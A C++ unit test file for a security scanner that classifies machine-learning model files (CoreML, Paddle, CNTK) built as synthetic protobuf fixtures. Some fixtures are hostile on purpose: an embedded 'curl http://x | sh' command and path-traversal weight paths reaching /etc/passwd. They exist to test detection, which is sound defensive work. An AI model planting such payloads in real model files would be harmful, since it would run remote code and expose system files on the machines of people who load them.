#include "scan/proto_models.h"

#include <gtest/gtest.h>

#include "scan/scanner.h"

namespace hauberk::scan {
namespace {

std::string proto_number(std::uint64_t value) {
  std::string out;
  for (; value >= 0x80; value >>= 7) out += static_cast<char>((value & 0x7f) | 0x80);
  return out + static_cast<char>(value);
}
std::string message(std::uint64_t number, const std::string& content) {
  return proto_number(number << 3 | 2) + proto_number(content.size()) + content;
}
std::string varint(std::uint64_t number, std::uint64_t value) {
  return proto_number(number << 3) + proto_number(value);
}

Report proto_scan(const std::string& data, std::string_view name) {
  MemoryReader reader(as_bytes(data));
  return scan(reader, name);
}

TEST(Coreml, classes_and_models_from_elsewhere_are_told) {
  const auto model = [](const std::string& more, const std::string& note = "words") {
    const auto metadata = message(1, "short") + message(100, message(1, "note") + message(2, note));
    return varint(1, 4) + message(2, message(100, metadata)) + more;
  };
  struct Case {
    std::string data;
    ScanVerdict verdict;
  };
  const Case cases[] = {
      {model(message(500, message(1, message(1, "layer")))), ScanVerdict::clean},
      {model(message(500, message(1, message(500, message(10, "MyLayer"))))), ScanVerdict::review},
      {model(message(555, message(10, "MyModel"))), ScanVerdict::review},
      {model(message(202, message(1, varint(1, 4) + message(555, message(10, "Inner"))))), ScanVerdict::review},
      {model(message(556, message(1, message(1, message(1, "other.mlmodel"))))), ScanVerdict::review},
      {model(message(556, message(1, message(1, message(1, "../../other.mlmodel"))))), ScanVerdict::malicious},
      {model("", "import os; os.system('curl http://x | sh')"), ScanVerdict::malicious},
      {model("\xa2\x1f\x09x"), ScanVerdict::malformed},
  };
  for (const auto& c : cases) {
    EXPECT_EQ(proto_scan(c.data, "m.mlmodel").verdict, c.verdict);
    EXPECT_EQ(proto_scan(c.data, "m.mlmodel").format, "coreml");
  }
}

TEST(Coreml, weights_in_files_stay_within_the_model) {
  const auto program = [](const std::string& path) {
    const auto value = message(5, message(1, path) + varint(2, 64));
    const auto operation = message(1, "const") + message(5, message(1, "val") + message(2, value));
    const auto block = message(1, "CoreML5") + message(2, message(3, operation));
    const auto function = message(2, "CoreML5") + message(3, block);
    return varint(1, 6) + message(2, message(100, message(1, "short"))) +
           message(502, varint(1, 1) + message(2, message(1, "main") + message(2, function)));
  };
  EXPECT_EQ(proto_scan(program("@model_path/weights/weight.bin"), "m.mlmodel").verdict, ScanVerdict::clean);
  for (const std::string path : {"@model_path/../../../etc/passwd", "@model_path//etc/passwd", "/etc/passwd", "../x"})
    EXPECT_EQ(proto_scan(program(path), "m.mlmodel").verdict, ScanVerdict::malicious) << path;
  // Where the format has no path, a loader may still find one.
  EXPECT_EQ(proto_scan(varint(1, 6) + message(2, message(100, message(1, "short"))) +
                           message(502, message(2, message(2, message(4, "@model_path/../x")))),
                       "m.mlmodel")
                .verdict,
            ScanVerdict::malicious);
}

TEST(Coreml, is_known_among_fields_that_loaders_skip) {
  const auto model = message(99, "x") + varint(1, 4) + message(98, "") +
                     message(2, message(77, "x") + message(100, message(1, "short"))) +
                     message(555, message(10, "Mine"));
  EXPECT_EQ(proto_scan(model, "m.mlmodel").format, "coreml");
}

TEST(Paddle, operators_that_reach_python_or_files_are_told) {
  const auto program = [](const std::string& type, const std::string& path) {
    const auto op = message(3, type) + message(4, message(1, "file_path") + varint(2, 2) + message(5, path));
    return message(1, varint(1, 0) + varint(2, ~0ull) + message(4, op)) + message(5, varint(1, 0));
  };
  EXPECT_EQ(proto_scan(program("matmul", ""), "m.pdmodel").verdict, ScanVerdict::clean);
  EXPECT_EQ(proto_scan(program("matmul", ""), "m.pdmodel").format, "paddle-program");
  EXPECT_EQ(proto_scan(program("py_func", ""), "m.pdmodel").verdict, ScanVerdict::malicious);
  EXPECT_EQ(proto_scan(program("save_combine", "weights"), "m.pdmodel").verdict, ScanVerdict::review);
  EXPECT_EQ(proto_scan(program("load", "/etc/passwd"), "m.pdmodel").verdict, ScanVerdict::malicious);
}

TEST(Cntk, is_told_to_be_old) {
  const auto model = varint(1, 1) + message(2, message(1, "version") + message(2, varint(1, 1)));
  EXPECT_EQ(proto_scan(model, "m.dnn").format, "cntk");
  EXPECT_EQ(proto_scan(model, "m.dnn").verdict, ScanVerdict::review);
}

}  // namespace
}  // namespace hauberk::scan
